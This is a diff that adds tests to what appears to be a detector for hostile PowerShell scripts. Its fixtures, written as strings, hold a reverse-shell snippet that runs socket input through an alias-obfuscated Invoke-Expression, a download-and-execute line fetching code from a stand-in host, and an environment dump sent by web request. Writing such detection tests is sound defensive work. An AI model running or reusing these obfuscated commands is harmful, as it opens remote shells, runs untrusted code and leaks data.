@@ -236,3 +236,24 @@ def test_the_environment_piped_into_a_web_request_is_its_body(tmp_path: Path) ->
         "$report | Out-String | Invoke-WebRequest -Uri https://collect.example.invalid/r -Method Put\n",
     )
     assert [line for line, _ in chain(found, Kind.EGRESS)] == [1, 2]
+
+
+def test_invoke_expression_looked_up_by_alias_and_run_on_what_a_socket_sends(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$c = New-Object Net.Sockets.TCPClient('203.0.113.9', 443); $s = $c.GetStream()\n"
+        "$run = Get-Alias ('i' + 'ex')\n"
+        "$n = $s.Read($b, 0, 1024); $cmd = [Text.Encoding]::UTF8.GetString($b, 0, $n)\n"
+        "& $run $cmd\n",
+    )
+    assert (Kind.RAW_SOCKET, "203.0.113.9 (remote shell)") in summary(found)
+
+
+def test_a_cmdlet_looked_up_through_the_execution_context_with_its_name_concatenated(tmp_path: Path) -> None:
+    found = analyse(
+        tmp_path,
+        "$f = $ExecutionContext.InvokeCommand.GetCmdlet('Invoke-' + 'Expression')\n"
+        "$code = (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a')\n"
+        "& $f $code\n",
+    )
+    assert [line for line, _ in chain(found, Kind.EXEC_FETCHED)] == [2, 3]
